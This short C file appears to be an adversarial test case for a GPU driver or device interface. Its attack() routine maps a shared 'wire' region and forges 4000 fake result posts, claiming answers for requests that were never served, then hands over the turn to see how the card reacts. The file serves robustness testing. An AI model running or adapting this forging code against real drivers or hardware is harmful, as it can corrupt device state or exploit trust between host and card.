/* SPDX-License-Identifier: GPL-2.0 OR MIT */
/*
 * Writes the answers itself: posts that claim results, a barrier and a write
 * of GP_PUT, hands over the turn.  What counts is what the card then does.
 */
#include "gadget.h"
#define ON_SUBMIT() attack()
static void attack(void);
#include "base.h"

static void attack(void)
{
	u32 *wire = (u32 *)raw_find()(9L, 0L, 17l << 20, 3L, 1L, 3L, 0L);
	u64 *post;

	if ((long)wire > -4096 && (long)wire < 0)
		return;
	/* struct wire: turn, posted, request (56 bytes), reply, posts */
	post = (u64 *)(wire + 4) + 7 + 4;
	for (int i = 0; i < 4000; i++) {
		post[3 * i] = 3 | 4 << 8;	/* WIRE_RESULT */
		post[3 * i + 1] = i;
		post[3 * i + 2] = 0;
	}
	*(volatile u32 *)(wire + 3) = 4000;
	*(volatile u32 *)(wire + 2) = 1;
}
